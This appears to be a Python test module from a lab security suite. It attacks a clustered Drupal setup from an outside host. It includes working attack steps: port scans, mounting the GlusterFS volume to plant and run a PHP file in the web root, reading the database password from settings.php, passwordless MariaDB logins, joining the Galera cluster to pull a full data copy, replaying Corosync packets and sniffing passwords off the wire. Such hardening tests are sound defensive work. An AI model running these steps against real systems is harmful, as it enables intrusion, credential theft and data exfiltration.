"""The ways in that a stranger tries at the daemons. Each returns what it got, and nothing where it was refused."""

import threading
import time

from tests.attack.stranger import ADDRESS, NODE, VICTIM, does, of_his_own, scanned, with_the_nodes_programs
from tests.attack.wire import arriving, listening, recorded, replayed
from tests.lab.nodes import ADDRESSES, DOCROOT, VIP, on

VOLUME = "fs_ha"
CLUSTER_PORT = 5405
_DATAGRAMS = """
import socket, sys
taken = []
for port in sys.argv[2:]:
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); one.settimeout(2); one.connect((sys.argv[1], int(port)))
    try:
        one.send(b"x" * 64); one.recv(1); taken.append(port)
    except TimeoutError:
        taken.append(port)
    except ConnectionRefusedError:
        pass
print(*taken)
"""


def ports() -> str:
    """Connect to every TCP port of a node and of the virtual IP; ssh, and the page at the virtual IP, are no way in."""
    node, vip = scanned(NODE, VIP, last=65535).values()
    return " ".join(map(str, sorted((node | vip) - ({22, 80, 443} if not node - {22} else {22}))))


def datagrams() -> str:
    """Send to every UDP port that something listens at on a node."""
    listening_at = on(VICTIM, "ss -Hlun | awk '{print $4}' | grep -v '^127\\|^\\[' | sed 's/.*://' | sort -un").split()
    return does("python3", "-c", _DATAGRAMS, NODE, *listening_at).strip()


def _mounted(before: str) -> str:
    name = f"stranger{time.time_ns()}.php"
    tried = f"mkdir -p /mnt; timeout 30 mount -t glusterfs {NODE}:/{VOLUME} /mnt && echo '<?php echo 6*7;' > /mnt/{name} && ls /mnt && umount -l /mnt"
    with_the_nodes_programs(before + tried)
    try:
        ran = on("nodoha", f"curl -sk -m 10 http://{VIP}/{name}", check=False)
        there = on("nodoha", f"ls {DOCROOT}/{name}", check=False)
        return f"written{', and run' * (ran == '42')}" if there else ""
    finally:
        on("nodoha", f"rm -f {DOCROOT}/{name}")


def volume_mounted() -> str:
    """Mount the volume, write a PHP file into it, and have the virtual IP run it."""
    return _mounted("")


def volume_mounted_in_tls() -> str:
    """The same, with a certificate of his own for a node's name."""
    return _mounted(of_his_own())


def secrets_read() -> str:
    """Read the database's password out of settings.php on the volume."""
    tried = f"mkdir -p /mnt; timeout 30 mount -t glusterfs {NODE}:/{VOLUME} /mnt && cat /mnt/sites/default/settings*.php; umount -l /mnt"
    return "settings.php" if "database" in with_the_nodes_programs(tried) else ""


def pool_asked() -> str:
    """Have glusterd list the volume, from afar."""
    said = with_the_nodes_programs(f"timeout 30 gluster --mode=script --remote-host={NODE} volume info")
    return "the volume's description" if "Volume Name" in said else ""


def volume_changed() -> str:
    """Have glusterd change an option of the volume, from afar."""
    with_the_nodes_programs(
        f"timeout 30 gluster --mode=script --remote-host={NODE} volume set {VOLUME} user.stranger 1"
    )
    try:
        return "an option set" if "user.stranger" in on("nodoha", f"gluster volume info {VOLUME}") else ""
    finally:
        on("nodoha", f"gluster --mode=script volume reset {VOLUME} user.stranger", check=False)


# A member of its own, with no data: it asks for a full copy as every new one does. Of its directory is said what came.
_MEMBER = """
mkdir -p /var/lib/mysql/own /etc/mysql && cd /var/lib/mysql/own && chown -R mysql: /var/lib/mysql
printf '[mysqld]\\nsocket=/var/lib/mysql/socket\\nwsrep_sst_auth=mysql:\\n' > /etc/mysql/my.cnf
timeout 25 mariadbd --defaults-file=/etc/mysql/my.cnf --user=mysql --datadir=/var/lib/mysql/own --pid-file=/var/lib/mysql/pid --skip-networking \\
  --wsrep-on=ON --wsrep-provider=/usr/lib/galera/libgalera_smm.so --wsrep-cluster-name={name} --wsrep-cluster-address=gcomm://{node}:4567 \\
  --wsrep-node-address={address} --wsrep-sst-method={method} --binlog-format=ROW --innodb-autoinc-lock-mode=2 {more} > /var/lib/mysql/said 2>&1 &
for i in $(seq 24); do sleep 1; [ ! -d drupal ] || {{ echo COPIED; break; }}; done; pkill -KILL -f '^mariadbd .*/var/lib/mysql/own' || :; tail -n 3 /var/lib/mysql/said
"""


def _joined(name: str, before: str = "", more: str = "") -> str:
    """Join the database's cluster as a member, for a while; whether the others counted it, and whether it was given the data."""
    seen = "SHOW STATUS LIKE 'wsrep_cluster_size'"
    size = int(on(VICTIM, f'mariadb -NBe "{seen}" | cut -f2'))
    look = f'for i in $(seq 20); do mariadb -NBe "{seen}" | cut -f2; sleep 1; done'
    watched: list[str] = []
    watcher = threading.Thread(target=lambda: watched.append(on(VICTIM, look)))
    watcher.start()
    said = with_the_nodes_programs(
        before + _MEMBER.format(name=name, node=NODE, address=ADDRESS, method="mariabackup", more=more), seconds=40
    )
    watcher.join()
    got = ["counted as a member"] if max(map(int, watched[0].split())) > size else []
    return ", ".join([*got, *(["given a full copy"] if "COPIED" in said.split() else [])])


def database_joined() -> str:
    """Join the database's cluster by its name."""
    return _joined("warner")


def database_joined_in_tls() -> str:
    """The same, with a certificate of his own for a node's name."""
    names = {"key": "key", "cert": "pem", "ca": "ca"}
    keys = ";".join(f"socket.ssl_{option}=/etc/mysql/own.{end}" for option, end in names.items())
    return _joined("warner", of_his_own(), f"--wsrep-provider-options='socket.ssl=yes;{keys}'")


def database_joined_unnamed() -> str:
    """Join the database's cluster under another name."""
    return _joined("stranger")


def database_asked() -> str:
    """Log in to MariaDB as root without a password, as nobody, and as the site with its own password."""
    password = on(
        "nodoha",
        "sed -n \"s/.*'password' => '\\(.*\\)',/\\1/p\" /var/www/html/drupal/sites/default/settings*.php | head -n 1",
    )
    found = []
    for user, secret in (("root", ""), ("", ""), ("mysql", ""), ("drupal", password)):
        given = f"-p'{secret}'" if secret else ""
        said = with_the_nodes_programs(
            f"timeout 15 mariadb --skip-ssl-verify-server-cert --connect-timeout=5 -h {NODE} -u '{user}' {given} -e 'SELECT 6*7' 2>&1"
        )
        found += [f"{user or 'nobody'} let in"] if "42" in said.split() else []
    return ", ".join(found)


def database_greets() -> str:
    """Be greeted by MariaDB, with its version, before anybody has logged in."""
    said = does(
        "python3", "-c", f"import socket; one = socket.create_connection(('{NODE}', 3306), 5); print(one.recv(200))"
    )
    return "greeted" if "MariaDB" in said or "not allowed" in said else ""


_CLUSTER = (
    "corosync-quorumtool -s | grep 'Ring ID'; crm_node -p; crm_mon -1 -r --output-as=xml | grep -c 'online=\"true\"'"
)


def cluster_talked_to() -> str:
    """Send a node's Corosync what the others send it: taken from the wire, the same again and with a bit changed, in a node's name and in his own."""
    packets = recorded(ADDRESSES["nodoha"], NODE, CLUSTER_PORT)
    assert packets, "the nodes say nothing to each other"
    before = on("nodoha", _CLUSTER)
    with arriving(VICTIM, CLUSTER_PORT) as arrived:
        sent = replayed(packets, NODE, CLUSTER_PORT)
        time.sleep(3)
    assert arrived.packets > sent / 2, f"of {sent} packets {arrived.packets} arrived"
    after = on("nodoha", _CLUSTER)
    return "" if before == after else f"{before} became {after}"


def read_on_the_wire() -> str:
    """Read what passes between the nodes: a row, a file, an attribute of the cluster, the site's log-in over https."""
    mark = str(time.time_ns())
    row, file, attribute, password = (f"{kind}-{mark}" for kind in ("row", "file", "attribute", "password"))
    with listening(row, file, attribute, password) as heard:
        on(
            "nodoha",
            "mariadb -e 'CREATE TABLE IF NOT EXISTS drupal.webha_wire (t TEXT, k INT PRIMARY KEY AUTO_INCREMENT)'",
        )
        on(
            "nodoha",
            f"mariadb -e \"INSERT INTO drupal.webha_wire (t) VALUES ('{row}')\"; echo '{file}' > {DOCROOT}/sites/default/files/wire.txt",
        )
        on("nodoha3", f"cat {DOCROOT}/sites/default/files/wire.txt; attrd_updater -n webha-wire -U {attribute}")
        does(
            "curl",
            "-sk",
            "-m",
            "10",
            "-d",
            f"name=admin&pass={password}&form_id=user_login_form",
            f"https://{VIP}/user/login",
        )
    on("nodoha", f"mariadb -e 'DROP TABLE drupal.webha_wire'; rm -f {DOCROOT}/sites/default/files/wire.txt")
    on("nodoha3", "attrd_updater -n webha-wire -D")
    assert heard.packets > 0, "the listener saw nothing at all"
    return ", ".join(sorted(one.partition("-")[0] for one in heard.words))


def transfer_reached() -> str:
    """Reach the port at which a node that needs a full copy waits for its donor; here something of ours waits there."""
    wait = "import socket, time; one = socket.create_server(('', 4444)); time.sleep(15)"
    on(VICTIM, f'systemd-run -q --collect --unit=webha-lab-transfer python3 -c "{wait}"; sleep 1')
    try:
        tried = f"import socket; socket.create_connection(('{NODE}', 4444), 3); print('open')"
        return "4444 open" if does("python3", "-c", tried).strip() == "open" else ""
    finally:
        on(VICTIM, "systemctl stop webha-lab-transfer", check=False)
